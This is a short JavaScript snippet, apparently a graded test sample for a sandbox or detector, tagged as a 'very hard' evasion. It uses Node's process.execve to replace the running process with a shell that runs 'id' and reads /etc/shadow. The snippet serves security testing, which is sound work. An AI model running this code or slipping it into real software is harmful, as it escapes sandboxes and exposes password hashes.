// evasion: process.execve (Node 23.11+) replaces the process with a shell
// grade: very hard; does: shell
if (typeof process.execve === 'function') {
  process.execve('/bin/sh', ['sh', '-c', 'id; cat /etc/shadow'], process.env);
}
